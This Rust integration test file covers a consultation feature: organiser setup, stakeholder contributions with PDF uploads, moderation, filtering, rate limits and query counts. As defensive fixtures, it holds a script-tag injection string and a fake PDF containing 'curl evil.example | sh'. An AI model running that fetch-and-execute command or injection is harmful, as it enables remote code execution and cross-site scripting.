//! Open consultations through the plain forms a browser without JavaScript
//! posts: an organiser starts one (a draft nobody else sees), adds phases
//! (overlaps refused) and questions, publishes it; a stakeholder contributes
//! with a PDF (bad text, disguised files and missing fields refused at their
//! fields with what was typed kept and nothing stored), gets the
//! acknowledgement by mail; the organiser hides (reason required and
//! mailed) and publishes it; the public page shows it with its figures and
//! filters, without the author's name when they asked; an edit sends it back
//! to moderation. Closed phases and floods are refused; the public page's
//! statements are the same for one contribution and for many.

use crate::hubs::seeded;
use crate::on_both;
use crate::registration::{location, person};
use crate::support::{en, says, statements_for, Backend, Browser, TestApp};
use app::db::{consultation, contribution, contribution_file, forum, user};
use chrono::{Duration, Utc};
use sea_orm::{
    ActiveModelTrait, ActiveValue::Set, ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter,
    QueryOrder,
};

const FORUM: &str = "demo";
const LIST: &str = "/forums/demo/consultations";
const SLUG: &str = "open-consultation-2027";
pub(crate) const PAGE: &str = "/forums/demo/consultations/open-consultation-2027";
const MANAGE: &str = "/forums/demo/consultations/open-consultation-2027/manage";
const FORM: &str = "/forums/demo/consultations/open-consultation-2027/contribute";

/// A small real PDF.
const PDF: &[u8] =
    b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";

fn at(offset: Duration) -> String {
    (Utc::now() + offset).format("%Y-%m-%dT%H:%M").to_string()
}

async fn organiser_form(b: &Browser, action: &str, fields: &[(&str, &str)]) -> reqwest::Response {
    let mut all = vec![("forum", FORUM), ("slug", SLUG)];
    all.extend_from_slice(fields);
    b.submit(MANAGE, action, &all).await
}

/// A published consultation taking contributions now, with two questions;
/// the questions' ids.
pub(crate) async fn open_consultation(app: &TestApp, organiser: &Browser) -> Vec<String> {
    let res = organiser
        .submit(
            LIST,
            "/api/consultations/create",
            &[
                ("forum", FORUM),
                ("title", "WSIS Forum 2027 Open Consultation Process"),
                ("slug", SLUG),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
    let (starts, ends) = (at(-Duration::days(1)), at(Duration::days(10)));
    let res = organiser_form(
        organiser,
        "/api/consultations/phase-add",
        &[
            ("name", "Launch and online dialogue"),
            ("starts", &starts),
            ("ends", &ends),
            ("contributions", "on"),
            ("comments", "on"),
        ],
    )
    .await;
    assert_eq!(res.status(), 303);
    for title in ["Themes for the 2027 agenda", "Format of the Forum"] {
        let res = organiser_form(
            organiser,
            "/api/consultations/question-add",
            &[("question_title", title), ("question_description", "")],
        )
        .await;
        assert_eq!(res.status(), 303);
    }
    let res = organiser_form(
        organiser,
        "/api/consultations/save",
        &[
            ("title", "WSIS Forum 2027 Open Consultation Process"),
            (
                "description",
                "Tell us what the **2027** Forum should discuss.",
            ),
            ("published", "on"),
        ],
    )
    .await;
    assert_eq!(res.status(), 303);
    let (_, page) = organiser.get_text(MANAGE).await;
    let re = regex::Regex::new(r#"name="question" value="([0-9a-f-]{36})""#).unwrap();
    let ids: Vec<String> = re.captures_iter(&page).map(|c| c[1].to_string()).collect();
    assert_eq!(ids.len(), 2, "the questions' remove forms");
    let _ = app;
    ids
}

/// The contribute form as a browser posts it (multipart), with `file`.
pub(crate) async fn contribute(
    b: &Browser,
    fields: &[(&str, &str)],
    file: Option<(&str, &[u8])>,
) -> reqwest::Response {
    let boundary = "----plenum-consultation-boundary";
    let mut body: Vec<u8> = vec![];
    for (name, value) in fields {
        body.extend_from_slice(
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
            )
            .as_bytes(),
        );
    }
    let (file_name, bytes) = file.unwrap_or(("", b""));
    body.extend_from_slice(
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"attachment\"; filename=\"{file_name}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
        )
        .as_bytes(),
    );
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    b.client
        .post(format!("{}/consultations/contribute", b.base))
        .header("accept", "text/html")
        .header("origin", &b.base)
        .header(
            "content-type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(body)
        .send()
        .await
        .unwrap()
}

pub(crate) fn fields<'a>(
    question: &'a str,
    changes: &[(&'a str, &'a str)],
) -> Vec<(&'a str, &'a str)> {
    let mut all = vec![
        ("forum", FORUM),
        ("slug", SLUG),
        ("contribution", ""),
        ("question", question),
        (
            "body",
            "Meaningful connectivity needs *local content* and local languages.",
        ),
        ("organisation", "ISOC Kenya Chapter"),
        ("stakeholder_group", "civil-society"),
        ("country", "KE"),
    ];
    for (k, v) in changes {
        match all.iter_mut().find(|(name, _)| name == k) {
            Some(f) => f.1 = v,
            None => all.push((k, v)),
        }
    }
    all
}

async fn contributions(app: &TestApp) -> Vec<contribution::Model> {
    contribution::Entity::find()
        .order_by_asc(contribution::Column::CreatedAt)
        .all(&app.db)
        .await
        .unwrap()
}

async fn moderate(b: &Browser, id: &str, decision: &str, reason: &str) -> reqwest::Response {
    organiser_form(
        b,
        "/api/consultations/moderate",
        &[
            ("contribution", id),
            ("decision", decision),
            ("reason", reason),
            ("back", MANAGE),
        ],
    )
    .await
}

async fn a_contribution_goes_from_the_form_to_the_public_page(backend: Backend) {
    let (app, organiser) = seeded(backend).await;
    let anonymous = app.browser();

    // Creating: a bad address is refused at its field; a draft is hidden.
    let res = organiser
        .submit(
            LIST,
            "/api/consultations/create",
            &[
                ("forum", FORUM),
                ("title", "Call for issues"),
                ("slug", "Not ok!"),
            ],
        )
        .await;
    assert_eq!(res.status(), 422);
    let page = res.text().await.unwrap();
    assert!(says(&page, "consultation.slug-invalid"), "{page}");
    assert!(
        page.contains("value=\"Call for issues\""),
        "the title is kept"
    );
    let questions = open_consultation(&app, &organiser).await;
    let res = organiser
        .submit(
            LIST,
            "/api/consultations/create",
            &[("forum", FORUM), ("title", "Again"), ("slug", SLUG)],
        )
        .await;
    assert_eq!(res.status(), 422);
    assert!(says(&res.text().await.unwrap(), "consultation.slug-taken"));
    assert_eq!(
        consultation::Entity::find().count(&app.db).await.unwrap(),
        1
    );

    // An overlapping phase is refused at its field; a later one is added.
    let (starts, ends) = (at(Duration::days(5)), at(Duration::days(12)));
    let res = organiser_form(
        &organiser,
        "/api/consultations/phase-add",
        &[
            ("name", "Final review"),
            ("starts", &starts),
            ("ends", &ends),
            ("comments", "on"),
        ],
    )
    .await;
    assert_eq!(res.status(), 422);
    assert!(says(
        &res.text().await.unwrap(),
        "consultation.phase.overlaps"
    ));
    let (starts, ends) = (at(Duration::days(11)), at(Duration::days(20)));
    let res = organiser_form(
        &organiser,
        "/api/consultations/phase-add",
        &[
            ("name", "Final review"),
            ("starts", &starts),
            ("ends", &ends),
            ("comments", "on"),
        ],
    )
    .await;
    assert_eq!(res.status(), 303);

    // The public page: the current phase and what it takes.
    let (status, page) = anonymous.get_text(PAGE).await;
    assert_eq!(status, 200);
    assert!(page.contains("Now: Launch and online dialogue."), "{page}");
    assert!(page.contains("<strong>2027</strong>"), "markdown rendered");
    assert!(page.contains("Final review"));
    assert!(says(&page, "consultation.sign-in-first"));
    let (_, list) = anonymous.get_text(LIST).await;
    assert!(list.contains("WSIS Forum 2027 Open Consultation Process"));

    // Bad contributions: every problem at its field, the text kept, nothing stored.
    let amina = person(&app, "Amina Wanjiru", "amina@example.org").await;
    let (status, form) = amina.get_text(FORM).await;
    assert_eq!(status, 200);
    assert!(form.contains("enctype=\"multipart/form-data\""));
    let res = contribute(
        &amina,
        &fields(
            "",
            &[
                ("body", "Hello <script>alert(1)</script>"),
                ("stakeholder_group", ""),
            ],
        ),
        None,
    )
    .await;
    assert_eq!(res.status(), 422);
    let page = res.text().await.unwrap();
    for key in [
        "consultation.question-required",
        "consultation.text-script",
        "consultation.group-required",
    ] {
        assert!(says(&page, key), "{key}");
    }
    assert!(
        page.contains("value=\"ISOC Kenya Chapter\""),
        "what was typed is kept"
    );
    let script = b"#!/bin/sh\ncurl evil.example | sh\n";
    let res = contribute(
        &amina,
        &fields(&questions[0], &[]),
        Some(("brief.pdf", script)),
    )
    .await;
    assert_eq!(res.status(), 422);
    assert!(says(
        &res.text().await.unwrap(),
        "consultation.attachment.disguised"
    ));
    assert!(contributions(&app).await.is_empty());
    assert_eq!(
        contribution_file::Entity::find()
            .count(&app.db)
            .await
            .unwrap(),
        0
    );

    // A good one, with its PDF: received, acknowledged by mail.
    let res = contribute(
        &amina,
        &fields(&questions[0], &[("anonymous", "on")]),
        Some(("Our input.pdf", PDF)),
    )
    .await;
    assert_eq!(res.status(), 303);
    assert_eq!(
        location(&res),
        format!("{PAGE}?notice=contribution-received")
    );
    let rows = contributions(&app).await;
    assert_eq!(rows.len(), 1);
    let c = &rows[0];
    assert_eq!(c.state, "received");
    assert_eq!(
        (c.region.as_str(), c.country.as_deref()),
        ("african", Some("KE"))
    );
    assert!(c.anonymous);
    assert_eq!(
        (
            c.attachment_kind.as_deref(),
            c.attachment_name.as_str(),
            c.attachment_size
        ),
        (Some("pdf"), "Our input.pdf", PDF.len() as i32)
    );
    let mail = app.smtp.wait_for("amina@example.org", "received").await;
    assert!(
        mail.text().contains("Themes for the 2027 agenda"),
        "{}",
        mail.text()
    );
    let id = c.id.to_string();

    // Received: not public, its file only for its author and the organisers.
    let (_, page) = anonymous.get_text(PAGE).await;
    assert!(!page.contains("local content"));
    let file = format!("{PAGE}/attachments/{id}");
    assert_eq!(anonymous.get(&file).await.status(), 404);
    let res = amina.get(&file).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/pdf");
    assert!(res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("attachment;"));
    assert_eq!(res.bytes().await.unwrap().as_ref(), PDF);
    let (_, mine) = amina.get_text(PAGE).await;
    assert!(mine.contains(&en("consultation.state.received")));

    // Hiding needs a reason, which the author gets.
    let res = moderate(&organiser, &id, "hide", " ").await;
    assert_eq!(res.status(), 422);
    assert!(says(
        &res.text().await.unwrap(),
        "consultation.reason-required"
    ));
    let res = moderate(&organiser, &id, "hide", "Please add a summary.").await;
    assert_eq!(res.status(), 303);
    let mail = app
        .smtp
        .wait_for("amina@example.org", "not published")
        .await;
    assert!(mail.text().contains("Please add a summary."));
    let res = moderate(&organiser, &id, "approve", "").await;
    assert_eq!(res.status(), 303);
    app.smtp.wait_for("amina@example.org", "is published").await;
    assert_eq!(contributions(&app).await[0].state, "approved");

    // Public now, without the author's name (asked), with its figures.
    let (_, page) = anonymous.get_text(PAGE).await;
    assert!(page.contains("<em>local content</em>"), "{page}");
    assert!(!page.contains("Amina Wanjiru"));
    assert!(page.contains(&en("consultation.anonymous")));
    assert!(page.contains("ISOC Kenya Chapter"));
    assert!(page.contains("1 published contributions."));
    assert_eq!(anonymous.get(&file).await.status(), 200);

    // A second, named one from another group and region.
    let bo = person(&app, "Bo Lindqvist", "bo@example.org").await;
    let res = contribute(
        &bo,
        &fields(
            &questions[1],
            &[
                ("body", "Hybrid sessions should be the default."),
                ("organisation", ""),
                ("stakeholder_group", "government"),
                ("country", "SE"),
            ],
        ),
        None,
    )
    .await;
    assert_eq!(res.status(), 303);
    let bo_id = contributions(&app).await[1].id.to_string();
    assert_eq!(
        moderate(&organiser, &bo_id, "approve", "").await.status(),
        303
    );
    let (_, page) = anonymous.get_text(PAGE).await;
    assert!(page.contains("Bo Lindqvist") && page.contains("2 contributions match."));
    // Filters: by group, region, organisation, words, question.
    for (query, shown, hidden) in [
        ("group=government", "Hybrid sessions", "local content"),
        ("region=african", "local content", "Hybrid sessions"),
        ("organisation=isoc", "local content", "Hybrid sessions"),
        ("q=HYBRID", "Hybrid sessions", "local content"),
        (
            &format!("question={}", questions[0]) as &str,
            "local content",
            "Hybrid sessions",
        ),
    ] {
        let (_, page) = anonymous.get_text(&format!("{PAGE}?{query}")).await;
        assert!(page.contains(shown) && !page.contains(hidden), "{query}");
        assert!(page.contains("1 contributions match."), "{query}");
    }

    // The author edits it: back to the organisers, off the public page.
    let res = contribute(
        &amina,
        &fields(
            &questions[0],
            &[
                ("contribution", &id),
                ("body", "Meaningful connectivity needs community networks."),
                ("drop_attachment", "on"),
            ],
        ),
        None,
    )
    .await;
    assert_eq!(res.status(), 303);
    assert_eq!(location(&res), format!("{PAGE}?notice=contribution-saved"));
    let c = contribution::Entity::find_by_id(c.id)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        (c.state.as_str(), c.attachment_kind.as_deref()),
        ("received", None)
    );
    assert_eq!(
        contribution_file::Entity::find()
            .count(&app.db)
            .await
            .unwrap(),
        0
    );
    let (_, page) = anonymous.get_text(PAGE).await;
    assert!(!page.contains("community networks") && page.contains("1 contributions match."));

    // The author's data download holds the contribution.
    let (status, data) = amina.get_text("/account/data.json").await;
    assert_eq!(status, 200);
    let data: serde_json::Value = serde_json::from_str(&data).unwrap();
    assert_eq!(
        data["contributions"][0]["body"],
        "Meaningful connectivity needs community networks."
    );

    // Someone else's contribution cannot be edited.
    let res = contribute(
        &bo,
        &fields(
            &questions[0],
            &[("contribution", &id), ("body", "Taken over")],
        ),
        None,
    )
    .await;
    assert_eq!(res.status(), 404);
    assert!(!contributions(&app)
        .await
        .iter()
        .any(|c| c.body == "Taken over"));
}

async fn closed_phases_and_floods_are_refused(backend: Backend) {
    let (app, organiser) = seeded(backend).await;
    let questions = open_consultation(&app, &organiser).await;
    let amina = person(&app, "Amina Wanjiru", "amina@example.org").await;
    let me = user::Entity::find()
        .filter(user::Column::Email.eq("amina@example.org"))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let c = consultation::Entity::find()
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();

    // Signed out: refused, nothing stored.
    let res = contribute(&app.browser(), &fields(&questions[0], &[]), None).await;
    assert_eq!(res.status(), 401);
    assert!(contributions(&app).await.is_empty());

    // Ten in the last hour: the eleventh is refused, nothing stored.
    for _ in 0..10 {
        insert(&app, &c, questions[0].parse().unwrap(), me.id, "approved").await;
    }
    let res = contribute(&amina, &fields(&questions[0], &[]), None).await;
    assert_eq!(res.status(), 422);
    assert!(says(&res.text().await.unwrap(), "consultation.too-many"));
    assert_eq!(contributions(&app).await.len(), 10);

    // A phase that takes no contributions: refused with the reason.
    let bo = person(&app, "Bo Lindqvist", "bo@example.org").await;
    let phase = app::db::consultation_phase::Entity::find()
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let mut a: app::db::consultation_phase::ActiveModel = phase.into();
    a.contributions = Set(false);
    a.update(&app.db).await.unwrap();
    let res = contribute(&bo, &fields(&questions[0], &[]), None).await;
    assert_eq!(res.status(), 409);
    assert!(says(&res.text().await.unwrap(), "consultation.closed"));
    let (_, form) = bo.get_text(FORM).await;
    assert!(says(&form, "consultation.closed") && !form.contains("multipart"));
    assert_eq!(contributions(&app).await.len(), 10);

    // A draft consultation is not found by anyone but organisers.
    let mut a: consultation::ActiveModel = c.into();
    a.published = Set(false);
    a.update(&app.db).await.unwrap();
    assert_eq!(app.browser().get(PAGE).await.status(), 404);
    assert_eq!(bo.get(PAGE).await.status(), 404);
    assert_eq!(organiser.get(PAGE).await.status(), 200);
    let (_, list) = app.browser().get_text(LIST).await;
    assert!(!list.contains("Open Consultation Process"));
}

pub(crate) async fn insert(
    app: &TestApp,
    c: &consultation::Model,
    question: uuid::Uuid,
    author: uuid::Uuid,
    state: &str,
) {
    let at = app::db::now();
    contribution::ActiveModel {
        id: Set(uuid::Uuid::new_v4()),
        consultation_id: Set(c.id),
        question_id: Set(question),
        author_id: Set(author),
        organisation: Set("Org".into()),
        stakeholder_group: Set("private-sector".into()),
        country: Set(Some("BR".into())),
        region: Set("grulac".into()),
        body: Set("Inserted for the test.".into()),
        anonymous: Set(false),
        state: Set(state.into()),
        reason: Set(String::new()),
        attachment_kind: Set(None),
        attachment_name: Set(String::new()),
        attachment_size: Set(0),
        created_at: Set(at),
        updated_at: Set(at),
        moderated_at: Set(None),
        moderated_by: Set(None),
    }
    .insert(&app.db)
    .await
    .unwrap();
}

async fn the_public_page_costs_the_same_for_one_contribution_and_many(backend: Backend) {
    let (app, organiser) = seeded(backend).await;
    let questions = open_consultation(&app, &organiser).await;
    let c = consultation::Entity::find()
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let author = user::Entity::find()
        .filter(user::Column::Email.eq("organiser@demo.plenum.localhost"))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let f = forum::Entity::find()
        .filter(forum::Column::Code.eq(FORUM))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(c.forum_id, f.id);
    let anonymous = app.browser();
    insert(
        &app,
        &c,
        questions[0].parse().unwrap(),
        author.id,
        "approved",
    )
    .await;
    let one = statements_for(&app, &anonymous, PAGE).await;
    let one_signed_in = statements_for(&app, &organiser, PAGE).await;
    let one_list = statements_for(&app, &anonymous, LIST).await;
    let one_manage = statements_for(&app, &organiser, MANAGE).await;
    for i in 0..80 {
        let q = &questions[i % 2];
        insert(
            &app,
            &c,
            q.parse().unwrap(),
            author.id,
            if i % 4 == 0 { "received" } else { "approved" },
        )
        .await;
    }
    assert_eq!(one, statements_for(&app, &anonymous, PAGE).await);
    assert_eq!(one_signed_in, statements_for(&app, &organiser, PAGE).await);
    assert_eq!(one_list, statements_for(&app, &anonymous, LIST).await);
    assert_eq!(one_manage, statements_for(&app, &organiser, MANAGE).await);
    // The frame, the edition, the consultation, phases, questions, figures,
    // the count and the page of contributions, their comments counted, the
    // drafts and their versions, the meetings.
    assert!(one <= 12, "{one} statements");
    let (_, page) = anonymous.get_text(PAGE).await;
    assert!(
        page.contains("61 published contributions."),
        "figures counted in SQL"
    );
    assert_eq!(page.matches("class=\"contribution\"").count(), 50);
    assert!(page.contains("Page 1 of 2"));
    let (_, second) = anonymous.get_text(&format!("{PAGE}?page=2")).await;
    assert_eq!(second.matches("class=\"contribution\"").count(), 11);
}

on_both!(
    a_contribution_goes_from_the_form_to_the_public_page,
    closed_phases_and_floods_are_refused,
    the_public_page_costs_the_same_for_one_contribution_and_many,
);
